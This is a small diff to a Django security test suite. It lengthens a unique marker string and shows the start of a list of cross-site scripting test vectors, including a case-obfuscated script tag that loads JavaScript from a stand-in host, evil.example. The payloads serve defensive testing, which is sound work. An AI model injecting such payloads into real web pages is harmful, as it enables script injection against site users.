@@ -35,7 +35,9 @@ from tests.security.test_headers import assert_strict, inline
 
 pytestmark = [pytest.mark.django_db, pytest.mark.timeout(120)]
 
-MARK = "xq7"  # stands in every vector, so that a page that shows none of them is noticed
+MARK = (
+    "xq7zvk93"  # stands in every vector and by chance in no token, so that a page that shows none is noticed
+)
 VECTORS = [
     f"<script>{MARK}()</script>",
     f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
